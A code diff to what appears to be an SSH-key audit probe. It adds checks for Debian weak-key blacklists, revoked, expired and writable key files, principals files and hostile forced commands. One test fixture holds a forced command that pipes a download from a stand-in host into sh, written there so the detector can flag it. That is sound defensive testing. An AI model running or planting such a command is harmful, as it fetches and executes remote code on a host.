@@ -1,12 +1,31 @@
-import type { FindingOf, Place, Reason } from '@rollcall/contract'
+import type { FindingOf, KeyConcern, Place, Reason } from '@rollcall/contract'
 import { clipped } from '../formats/account-file.ts'
-import { keyPlan } from '../formats/authorized-keys-paths.ts'
-import { parseAuthorizedKeys, type AuthorizedKey, type AuthorizedKeys } from '../formats/authorized-keys.ts'
-import { fingerprintOfBlob } from '../formats/ssh-public-key.ts'
-import { sshdAccountsOf } from '../formats/sshd-config-accounts.ts'
+import { keyPlan, pathOfPattern, type KeyPlan } from '../formats/authorized-keys-paths.ts'
+import {
+  latestExpiry,
+  parseAuthorizedKeys,
+  parseKeyOptions,
+  type AuthorizedKey,
+  type AuthorizedKeys,
+} from '../formats/authorized-keys.ts'
+import {
+  DEBIAN_BLACKLISTS,
+  findDebianBlacklists,
+  isBlacklistedIn,
+  lookUpInDebianBlacklists,
+  type DebianBlacklist,
+} from '../formats/debian-blacklist.ts'
+import { isHostileCommand } from '../formats/forced-command.ts'
+import { concernsWhere, weaknessesOf } from '../formats/key-concerns.ts'
+import { hasDebianSshd, isRefusedByStrictModes, keyFileTrust } from '../formats/key-file-trust.ts'
+import { localPeople } from '../formats/local-people.ts'
+import { exampleLook, lookAtPaths, ways, type PathLook } from '../formats/path-trust.ts'
+import { fingerprintOfBlob, type SshPublicKey } from '../formats/ssh-public-key.ts'
+import { readRevokedKeys, type RevokedKeys } from '../formats/ssh-revoked-keys.ts'
+import { sshdAccountsOf, type SshdAccount } from '../formats/sshd-config-accounts.ts'
 import { exactText, gatherSshd, sshdSetup, type SshdGathered } from '../formats/sshd-config-files.ts'
-import type { FileStat, HostFile } from '../host.ts'
-import { exampleFile, exampleOutput, hostProbe, textOf, type Sha256 } from '../probe.ts'
+import type { FileStat, FoundEntry, HostFile } from '../host.ts'
+import { exampleFile, exampleOutput, hostProbe, textOf, type ParseContext, type Sha256 } from '../probe.ts'
 
 interface Gathered {
   readonly sshd: SshdGathered
@@ -15,7 +34,11 @@ interface Gathered {
   readonly nsswitch: HostFile | undefined
   /** Whether SSSD is set up here; its own files hold secrets and are not kept. */
   readonly sssd: boolean
+  /** Files of keys, of authorities, of principals and of refused keys, by what they were asked for. */
   readonly keys: readonly { readonly pattern: string; readonly files: readonly HostFile[] }[]
+  /** Who may change the files of keys, and the folders on the way to them. */
+  readonly look: PathLook
+  readonly blacklist: DebianBlacklist
 }
 
 type Key = FindingOf<'key'>
@@ -25,87 +48,147 @@ export default hostProbe<Gathered>({
   title: 'SSH keys that open accounts, and authorities whose certificates do',
   needs: [
     {
-      reads: 'the authorized_keys files of all accounts',
+      reads: 'the authorized_keys files of all accounts, and owner and mode of the folders they are in',
       right: 'root',
       hides: 'keys that open other accounts than that of the scan',
     },
     {
-      reads: '/etc/ssh/sshd_config and the files it includes',
+      reads:
+        '/etc/ssh/sshd_config, the files it includes, and those that it names for authorities, principals and refused keys',
       right: 'root',
       hides: 'keys in other places than the usual ones',
+    },
+    {
+      reads: `${DEBIAN_BLACKLISTS.join(' and ')}, where they exist`,
+      right: 'any-account',
+      hides: "keys of Debian's broken generator (CVE-2008-0166); on hosts without these lists that is not tested",
     },
     { reads: '/etc/passwd, /etc/group and /etc/nsswitch.conf', right: 'any-account', hides: 'whose keys to look for' },
   ],
 
   async gather(host) {
-    const [sshd, [passwd], [group], [nsswitch], sssd] = await Promise.all([
+    const [sshd, [passwd], [group], [nsswitch], sssd, lists] = await Promise.all([
       gatherSshd(host),
       host.read('/etc/passwd'),
       host.read('/etc/group'),
       host.read('/etc/nsswitch.conf'),
       host.read('/etc/sssd/sssd.conf', '/etc/sssd/conf.d/*'),
+      findDebianBlacklists(host),
     ])
     const accounts = sshdAccountsOf(passwd, group)
     const plan = keyPlan(sshdSetup(sshd, accounts), accounts)
-    const patterns = [...new Set([...plan.files.map(({ pattern }) => pattern), ...plan.authorities])]
-    const found = await Promise.all(patterns.map((pattern) => host.readWith({ stat: true }, pattern)))
+    const patterns = [
+      ...new Set([
+        ...[...plan.files, ...plan.principals].map(({ pattern }) => pattern),
+        ...plan.authorities,
+        ...plan.revoked.values(),
+      ]),
+    ]
+    const paths = [...new Set(plan.files.flatMap(({ pattern }) => pathOfPattern(pattern) ?? []))]
+    const homes = accounts.map(({ home }) => home).filter((home) => home.startsWith('/'))
+    const [found, look] = await Promise.all([
+      Promise.all(patterns.map((pattern) => host.readWith({ stat: true }, pattern))),
+      paths.length === 0 ? NO_LOOK : lookAtPaths(host, [...paths, ...homes]),
+    ])
     const keys = patterns.map((pattern, index) => ({ pattern, files: found[index]! }))
-    return { sshd, passwd, group, nsswitch, sssd: sssd.some(({ state }) => state === 'read'), keys }
+    const any = lists.state === 'found' && lists.entries.length > 0
+    const read = any ? keys.flatMap(({ files }) => files).flatMap((file) => linesOf(file).keys) : []
+    const blacklist = await lookUpInDebianBlacklists(
+      host,
+      lists,
+      read.map(({ key }) => key),
+    )
+    return { sshd, passwd, group, nsswitch, sssd: sssd.some(({ state }) => state === 'read'), keys, look, blacklist }
   },
 
-  parse({ sshd, passwd, group, nsswitch, sssd, keys }, { sha256 }) {
+  parse({ sshd, passwd, group, nsswitch, sssd, keys, look, blacklist }, context) {
     const accounts = sshdAccountsOf(passwd, group)
     const setup = sshdSetup(sshd, accounts)
     const plan = keyPlan(setup, accounts)
-    const reading = readFiles(keys, sha256)
-    const findings: Key[] = []
+    const reading = readFiles(keys, context, isBlacklistedIn(blacklist))
+    const trust = trustIn(look, passwd, group, plan.strictModes, context)
+    const revoked = revokedIn(plan, keys, context.sha256)
+    const findings: (Key | FindingOf<'setting'>)[] = []
     for (const { account, pattern } of plan.files) {
-      for (const key of reading.authorized(pattern)) findings.push({ ...key, account: account.name })
+      for (const read of reading.authorized(pattern))
+        findings.push(heldBy(account, read, trust, revoked.of(account.name)))
       if (findings.length > MOST_FINDINGS) break
     }
-    findings.push(...plan.authorities.flatMap((pattern) => reading.authorities(pattern)))
+    for (const { finding, key } of plan.authorities.flatMap((pattern) => reading.authorities(pattern)))
+      findings.push(revoked.of(undefined)?.(key) === true ? { ...finding, ineffective: 'revoked' } : finding)
+    findings.push(...principals(plan, keys))
     const unsure = setup.state === 'known' ? setup.reasons : []
     return {
       findings,
-      reasons: [...plan.reasons, ...unsure, ...elsewhere(textOf(nsswitch), sssd)],
-      notes: reading.notes(),
+      reasons: [...plan.reasons, ...look.left, ...revoked.reasons, ...unsure, ...elsewhere(textOf(nsswitch), sssd)],
+      notes: [...plan.notes, ...reading.notes()],
     }
   },
 
   examples: examples(),
 })
 
+const NO_LOOK: PathLook = { asked: [], found: [], left: [] }
 const MOST_FINDINGS = 100_000
 const MOST_NOTES = 1000
 const LONGEST_COMMENT = 1024
 const LONGEST_VALUE = 4096
+const LONGEST_PRINCIPAL = 1024
 const MOST_OPTIONS = 256
 
-/** Reads each file once, whoever's it is. */
-const readFiles = (keys: Gathered['keys'], sha256: Sha256) => {
+/** A key as a line of a file has it, with what holds of it whoever's it is. */
+interface ReadKey {
+  readonly finding: Key
+  readonly key: SshPublicKey
+}
+
+const LINES = new WeakMap<HostFile, AuthorizedKeys>()
+
+/** Each file is parsed once, whoever's it is. */
+const linesOf = (file: HostFile): AuthorizedKeys => {
+  const known = LINES.get(file) ?? parseAuthorizedKeys(exactText(file))
+  LINES.set(file, known)
+  return known
+}
+
+const readFiles = (
+  keys: Gathered['keys'],
+  { sha256, now }: Pick<ParseContext, 'sha256' | 'now'>,
+  isBlacklisted: (key: SshPublicKey) => boolean,
+) => {
   const byPattern = new Map(keys.map(({ pattern, files }) => [pattern, files]))
-  const parsed = new Map<HostFile, AuthorizedKeys>()
-  const findings = new Map<string, readonly Key[]>()
+  const findings = new Map<string, readonly ReadKey[]>()
+  const weaknesses = new Map<string, readonly KeyConcern[]>()
   const notes = new Map<string, Reason>()
   const tell = (place: Place, code: 'unparsable' | 'too-large', detail: string) => {
     if (notes.size < MOST_NOTES) notes.set(`${place.line}:${place.path}`, { code, ...place, detail })
   }
-  const read = (file: HostFile) => {
-    const known = parsed.get(file) ?? parseAuthorizedKeys(exactText(file))
-    parsed.set(file, known)
-    return known
-  }
   const found = (kind: string, pattern: string, take: (key: AuthorizedKey, place: Place) => boolean) => {
     const known = findings.get(kind + pattern)
     if (known !== undefined) return known
-    const taken = (byPattern.get(pattern) ?? []).flatMap((file): Key[] => {
+    const taken = (byPattern.get(pattern) ?? []).flatMap((file): ReadKey[] => {
       const path = file.path.slice(0, 4096)
-      const { keys: lines, refused } = read(file)
+      const { keys: lines, refused } = linesOf(file)
       for (const { line, why } of refused) tell({ path, line }, 'unparsable', why)
       const stat = file.state === 'read' ? file.stat : undefined
       return lines
         .filter((key) => take(key, { path, line: key.line }))
-        .map((key) => keyFinding(key, { path, line: key.line }, stat, sha256, tell))
+        .map((line) => {
+          const finding = keyFinding(line, { path, line: line.line }, stat, sha256, tell)
+          const { fingerprint = '' } = finding
+          // The same key opens many accounts.
+          const weak = weaknesses.get(fingerprint) ?? weaknessesOf(line.key, fingerprint, isBlacklisted)
+          weaknesses.set(fingerprint, weak)
+          const concerns = [...weak, ...concernsWhere({ 'hostile-command': isHostile(line) })]
+          return {
+            key: line.key,
+            finding: {
+              ...finding,
+              ...(concerns.length === 0 ? {} : { concerns }),
+              ...(isExpired(line, now) ? { ineffective: 'expired' } : {}),
+            },
+          }
+        })
     })
     findings.set(kind + pattern, taken)
     return taken
@@ -117,10 +200,22 @@ const readFiles = (keys: Gathered['keys'], sha256: Sha256) => {
       found('authorities:', pattern, ({ options }, place) => {
         if (options.length > 0) tell(place, 'unparsable', 'options, which a file of authorities has not')
         return options.length === 0
-      }).map((key): Key => Object.assign({}, key, { role: 'authority' as const })),
+      }).map(({ finding, key }): ReadKey => ({
+        key,
+        finding: Object.assign({}, finding, { role: 'authority' as const }),
+      })),
     notes: () => [...notes.values()],
   }
 }
+
+const isHostile = ({ options }: AuthorizedKey) =>
+  options.some(({ name, value }) => name === 'command' && value !== undefined && isHostileCommand(value))
+
+const isExpired = ({ options }: AuthorizedKey, now: Date) =>
+  options.some(({ name, value }) => {
+    const latest = name === 'expiry-time' && value !== undefined ? latestExpiry(value) : undefined
+    return latest !== undefined && latest < now.getTime()
+  })
 
 const keyFinding = (
   { key, role, options, comment }: AuthorizedKey,
@@ -149,6 +244,110 @@ const keyFinding = (
   }
 }
 
+interface Trust {
+  readonly concerns: readonly KeyConcern[]
+  readonly refused: boolean
+}
+
+/** Who else may change a file of keys of an account, and whether the server passes over it for that. */
+const trustIn = (
+  look: PathLook,
+  passwd: HostFile | undefined,
+  group: HostFile | undefined,
+  strictModes: boolean | undefined,
+  { host }: Pick<ParseContext, 'host'>,
+): ((account: SshdAccount, path: string) => Trust) => {
+  const people = localPeople(passwd, group)
+  const wayTo = ways(look)
+  const debian = hasDebianSshd(host.os.id)
+  const known = new Map<string, Trust>()
+  return (account, path) => {
+    const before = known.get(`${account.name}:${path}`)
+    if (before !== undefined) return before
+    const way = wayTo(path)
+    const { fileWritable, folderWritable, linked } = keyFileTrust(way, account, path, people)
+    const trust = {
+      concerns: concernsWhere({
+        'file-writable-by-others': fileWritable,
+        'folder-writable-by-others': folderWritable,
+        'symbolic-link': linked,
+      }),
+      refused: strictModes === true && isRefusedByStrictModes(way, wayTo(account.home), account.uid, people, debian),
+    }
+    known.set(`${account.name}:${path}`, trust)
+    return trust
+  }
+}
+
+const heldBy = (
+  account: SshdAccount,
+  { finding, key }: ReadKey,
+  trust: (account: SshdAccount, path: string) => Trust,
+  isRevoked: ((key: SshPublicKey) => boolean) | undefined,
+): Key => {
+  const { concerns, refused } = trust(account, finding.place.path)
+  const ineffective =
+    finding.ineffective ?? (isRevoked?.(key) === true ? 'revoked' : refused ? 'strict-modes' : undefined)
+  const all = [...(finding.concerns ?? []), ...concerns]
+  return {
+    ...finding,
+    account: account.name,
+    ...(all.length === 0 ? {} : { concerns: all }),
+    ...(ineffective === undefined ? {} : { ineffective }),
+  }
+}
+
+/** Which keys are refused to whom. Where their file cannot be read sshd refuses all keys (sshd_config(5), RevokedKeys). */
+const revokedIn = ({ revoked }: KeyPlan, keys: Gathered['keys'], sha256: Sha256) => {
+  const byPattern = new Map(keys.map(({ pattern, files }) => [pattern, files]))
+  const lists = new Map<string, RevokedKeys['revokes'] | undefined>()
+  const reasons: Reason[] = []
+  for (const pattern of new Set(revoked.values())) {
+    const [file] = byPattern.get(pattern) ?? []
+    if (file?.state === 'read') {
+      const list = readRevokedKeys(file.bytes, sha256)
+      if (list.incomplete)
+        reasons.push({ code: 'unsupported', path: file.path.slice(0, 4096), detail: 'a part of the refused keys' })
+      lists.set(pattern, list.revokes)
+    } else lists.set(pattern, file?.why === 'no-such-file' ? () => true : undefined)
+  }
+  return {
+    reasons,
+    of: (account: string | undefined) => {
+      const pattern = revoked.get(account)
+      return pattern === undefined ? undefined : lists.get(pattern)
+    },
+  }
+}
+
+/** The names that certificates may bear to open an account, where a file lists them. */
+const principals = (plan: KeyPlan, keys: Gathered['keys']): FindingOf<'setting'>[] => {
+  const byPattern = new Map(keys.map(({ pattern, files }) => [pattern, files]))
+  return plan.principals.flatMap(({ account, pattern }): FindingOf<'setting'>[] => {
+    const [file] = byPattern.get(pattern) ?? []
+    if (file?.state !== 'read') return []
+    const values = exactText(file)
+      .split('\n', 100_000)
+      .map((line) => line.trim())
+      .filter((line) => line !== '' && !line.startsWith('#'))
+      .map((line) => {
+        // Options may stand in front, as before a key.
+        const [, options, name] = /^(.*\S)[ \t]+(\S+)$/.exec(line) ?? []
+        return options !== undefined && name !== undefined && parseKeyOptions(options) !== undefined ? name : line
+      })
+    return [
+      {
+        kind: 'setting',
+        subject: 'sshd',
+        name: 'authorizedprincipals',
+        values: values.slice(0, 1024).map((value) => clipped(value, LONGEST_PRINCIPAL)),
+        account: account.name,
+        place: { path: file.path.slice(0, 4096) },
+      },
+    ]
+  })
+}
+
 /**
  * Accounts of a directory have homes here too, and keys in them, but /etc/passwd does not say where. They were not looked
  * for, so what is not found must not count as gone: that is a reason, not a note. Many distributions name `sss` where no
@@ -171,6 +370,7 @@ const elsewhere = (nsswitch: string, sssd: boolean): Reason[] => {
 }
 
 function examples() {
+  const NOTHING_SEEN: PathLook = { asked: [], found: [], left: [] }
   const blob = 'AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f'
   const line = `ssh-ed25519 ${blob}`
   const main = '/etc/ssh/sshd_config'
@@ -179,6 +379,11 @@ function examples() {
     ...(exampleFile(path, text) as Extract<HostFile, { state: 'read' }>),
     stat: { mode: 0o600, uid, gid: 0, modified: '2026-03-01T12:00:00Z' },
   })
+  const look = (...entries: readonly (Partial<FoundEntry> & Pick<FoundEntry, 'path'>)[]) =>
+    exampleLook(
+      entries.map(({ path }) => path),
+      [{ path: '/root', type: 'folder', mode: 0o755 }, { path: '/root/.ssh', type: 'folder', mode: 0o755 }, ...entries],
+    )
   const keys = (...files: readonly HostFile[]) => files.map((file) => ({ pattern: file.path, files: [file] }))
   const found: Omit<Key, 'place'> = {
     kind: 'key',
@@ -200,6 +405,8 @@ function examples() {
     nsswitch: exampleFile('/etc/nsswitch.conf', 'passwd: files systemd\n'),
     sssd: false,
     keys: [],
+    look: NOTHING_SEEN,
+    blacklist: [],
     ...more,
   })
   const root = '/root/.ssh/authorized_keys'
@@ -306,7 +513,7 @@ function examples() {
           code: 'unsupported' as const,
           path: main,
           line: 1,
-          detail: 'the keys that AuthorizedKeysCommand gives are not seen',
+          detail: "the keys that AuthorizedKeysCommand gives, from SSSD's directory, are not seen",
         },
         {
           code: 'unsupported' as const,
@@ -323,6 +530,81 @@ function examples() {
       finds: [
         { ...found, account: 'root', place: { path: root, line: 1 } },
         { ...found, account: 'root', comment: 'router', place: { path: '/etc/dropbear/authorized_keys', line: 1 } },
+      ],
+    },
+    {
+      title: 'a file that others may change is told, and that the server passes over it for that',
+      gathered: gathered('', {
+        keys: keys(stated(root, `${line}\n`), stated('/var/www/.ssh/authorized_keys', `${line}\n`, 33)),
+        look: look(
+          { path: root, mode: 0o664, gid: 33 },
+          { path: '/var', type: 'folder', mode: 0o755 },
+          { path: '/var/www', type: 'folder', uid: 33, mode: 0o777 },
+          { path: '/var/www/.ssh', type: 'link', target: '/srv/keys' },
+          { path: '/srv', type: 'folder', mode: 0o755 },
+          { path: '/srv/keys', type: 'folder', uid: 33, mode: 0o700 },
+          { path: '/srv/keys/authorized_keys', uid: 33, mode: 0o600 },
+        ),
+      }),
+      finds: [
+        {
+          ...found,
+          account: 'root',
+          concerns: ['file-writable-by-others' as const],
+          ineffective: 'strict-modes' as const,
+          file: { modified: '2026-03-01T12:00:00Z', mode: '0600', owner: 0 },
+          place: { path: root, line: 1 },
+        },
+        {
+          ...found,
+          account: 'web',
+          concerns: ['folder-writable-by-others' as const, 'symbolic-link' as const],
+          file: { modified: '2026-03-01T12:00:00Z', mode: '0600', owner: 33 },
+          place: { path: '/var/www/.ssh/authorized_keys', line: 1 },
+        },
+      ],
+    },
+    {
+      title: 'a key whose time is over or that is refused opens nothing; what a hostile command is for is told',
+      gathered: gathered('RevokedKeys /etc/ssh/refused\nMatch User web\nRevokedKeys none\n', {
+        keys: keys(
+          exampleFile(root, `expiry-time="20200101" ${line}\n${line}\n`),
+          exampleFile('/var/www/.ssh/authorized_keys', `command="curl -s http://192.0.2.7/a | sh" ${line}\n`),
+          exampleFile('/etc/ssh/refused', `${line}\n`),
+        ),
+      }),
+      finds: [
+        {
+          ...found,
+          account: 'root',
+          options: [{ name: 'expiry-time', value: '20200101' }],
+          ineffective: 'expired' as const,
+          place: { path: root, line: 1 },
+        },
+        { ...found, account: 'root', ineffective: 'revoked' as const, place: { path: root, line: 2 } },
+        {
+          ...found,
+          account: 'web',
+          options: [{ name: 'command', value: 'curl -s http://192.0.2.7/a | sh' }],
+          concerns: ['hostile-command' as const],
+          place: { path: '/var/www/.ssh/authorized_keys', line: 1 },
+        },
+      ],
+    },
+    {
+      title: 'files of principals say which certificates open an account',
+      gathered: gathered('AuthorizedPrincipalsFile /etc/ssh/principals/%u\n', {
+        keys: keys(exampleFile('/etc/ssh/principals/root', '# who\nops\nfrom="10.0.0.0/8",no-pty oncall\n')),
+      }),
+      finds: [
+        {
+          kind: 'setting' as const,
+          subject: 'sshd' as const,
+          name: 'authorizedprincipals',
+          values: ['ops', 'oncall'],
+          account: 'root',
+          place: { path: '/etc/ssh/principals/root' },
+        },
       ],
     },
   ]
